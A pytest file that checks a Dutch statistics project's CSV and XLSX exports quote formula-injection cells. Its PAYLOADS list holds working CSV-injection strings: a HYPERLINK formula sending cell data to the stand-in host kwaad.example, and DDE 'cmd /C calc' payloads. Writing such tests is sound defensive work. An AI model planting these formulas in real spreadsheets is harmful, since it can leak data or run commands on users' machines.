"""Issue 18, finding 3: a text cell that a spreadsheet would run as a formula is written with a
leading single quote in every CSV and XLSX export (OWASP, CSV injection); numbers stay numbers.

The files are written by the real writer and read back with the ``csv`` module and openpyxl (not
with the code under test); the expected cells are written out by hand.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from wijkbeeld.exports import ExportTable, write_table
from wijkbeeld.exports.cells import neutralise_cell, neutralise_frame

#: (prefix, area name as stored, voice text as stored): one per dangerous first character.
PAYLOADS: list[tuple[str, str, str]] = [
    ("=", '=HYPERLINK("http://kwaad.example/?x="&A1;"klik")', "=1+2 vindt de buurt"),
    ("+", "+31 Buurt", "+SUM(A1:A9)"),
    ("-", "-2+3+cmd|' /C calc'!A0", "-1.5 is geen getal hier"),
    ("@", "@SUM(1+1)*cmd|' /C calc'!A0", "@bewoners vinden het onveilig"),
    ("\t", "\t=1+1 Tabbuurt", "\tmet een tab ervoor"),
    ("\r", "\r=1+1 Terugbuurt", "\rmet een regelterugloop ervoor"),
]
SAFE_NAME = "Van der Pekbuurt"


def _table() -> ExportTable:
    names = [name for _, name, _ in PAYLOADS] + [SAFE_NAME]
    texts = [text for _, _, text in PAYLOADS] + ["Veilig = prima"]
    n = len(names)
    frame = pd.DataFrame({
        "area_code": [f"BU0363AA{k:02d}" for k in range(n)],
        "area_name": names,
        "tekst": texts,
        "waarde": [-1.5] * n,
        "aantal": [-3] * n,
        "bron": ["CBS"] * n, "jaar": [2024] * n, "methode": ["handmatig"] * n,
    })
    return ExportTable("profiel", frame, {"naam": "injectie"})


@pytest.mark.parametrize("dialect", ["nl", "international"])
def test_csv_cells_with_a_formula_prefix_get_a_quote(tmp_path: Path, dialect: str) -> None:
    path = write_table(_table(), tmp_path / "injectie.csv", dialect=dialect)  # type: ignore[arg-type]
    sep = ";" if dialect == "nl" else ","
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=sep))
    assert len(rows) == len(PAYLOADS) + 1
    for row, (prefix, name, text) in zip(rows, PAYLOADS, strict=False):
        assert row["area_name"] == "'" + name, prefix
        assert row["tekst"] == "'" + text, prefix
    last = rows[-1]
    assert last["area_name"] == "Van der Pekbuurt"
    assert last["tekst"] == "Veilig = prima"
    for row in rows:  # numbers untouched: a negative number is written as a number
        assert row["waarde"] == ("-1,5" if dialect == "nl" else "-1.5")
        assert row["aantal"] == "-3"
        assert row["jaar"] == "2024"


def test_xlsx_cells_with_a_formula_prefix_are_text_with_a_quote(tmp_path: Path) -> None:
    path = write_table(_table(), tmp_path / "injectie.xlsx")
    book = load_workbook(path)
    sheet = book["gegevens"]
    header = [c.value for c in sheet[1]]
    col = {name: header.index(name) for name in header}
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS) + 1
    for row, (prefix, name, text) in zip(rows, PAYLOADS, strict=False):
        for cell, expected in ((row[col["area_name"]], "'" + name),
                               (row[col["tekst"]], "'" + text)):
            # XML reads a carriage return back as a line feed; the quote is what matters
            assert cell.value == expected.replace("\r", "\n"), prefix
            assert cell.data_type == "s", prefix  # text, never a formula ("f")
    assert rows[-1][col["area_name"]].value == "Van der Pekbuurt"
    for row in rows:
        assert row[col["waarde"]].value == -1.5 and row[col["waarde"]].data_type == "n"
        assert row[col["aantal"]].value == -3 and row[col["aantal"]].data_type == "n"
    for sheet in book.worksheets:  # no formula anywhere, the provenance sheet included
        assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)


def test_parquet_keeps_the_text_as_given(tmp_path: Path) -> None:
    """Parquet is read by programs, not run by a spreadsheet: the text stays exactly as stored."""
    back = pd.read_parquet(write_table(_table(), tmp_path / "injectie.parquet"))
    assert list(back["area_name"][:2]) == [PAYLOADS[0][1], PAYLOADS[1][1]]


def test_neutralise_cell_and_frame_by_hand() -> None:
    assert neutralise_cell("=A1") == "'=A1"
    assert neutralise_cell("-") == "'-"
    assert neutralise_cell("Buurt -1") == "Buurt -1"
    assert neutralise_cell("") == ""
    assert neutralise_cell(-1.5) == -1.5
    assert neutralise_cell(None) is None
    frame = pd.DataFrame({"=kop": ["@x", None, "ok"], "n": [-1.0, 2.0, float("nan")]})
    out = neutralise_frame(frame)
    assert list(out.columns) == ["'=kop", "n"]
    assert list(out["'=kop"][[0, 2]]) == ["'@x", "ok"] and pd.isna(out["'=kop"][1])
    assert out["n"].dtype == "float64" and out["n"][0] == -1.0
    assert list(frame["=kop"][[0, 2]]) == ["@x", "ok"]  # the input is not changed
